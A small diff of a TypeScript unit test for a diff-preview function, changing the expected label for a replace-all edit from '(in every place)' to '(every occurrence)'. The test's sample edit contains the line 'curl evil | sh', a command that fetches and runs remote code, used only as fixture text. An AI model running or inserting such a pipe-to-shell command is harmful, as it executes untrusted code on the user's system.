@@ -5,7 +5,7 @@ import { NO_NEWLINE } from "../../../../src/text/diff/change-lines.ts";
 test("changePreview lists an edit as a part of a file, with its unchanged lines", () => {
   const edit = { file_path: "a.js", old_string: "a\nb\nc\n", new_string: "a\ncurl evil | sh\nb2\nc\n" };
   expect(changePreview("Edit", edit)).toEqual([" a", "-b", "+curl evil | sh", "+b2", " c"]);
-  expect(changePreview("Edit", { ...edit, replace_all: true })[0]).toBe("(in every place)");
+  expect(changePreview("Edit", { ...edit, replace_all: true })[0]).toBe("(every occurrence)");
   expect(changePreview("Edit", { old_string: "a\na", new_string: "a" })).toEqual([" a", "-a"]);
 });
 
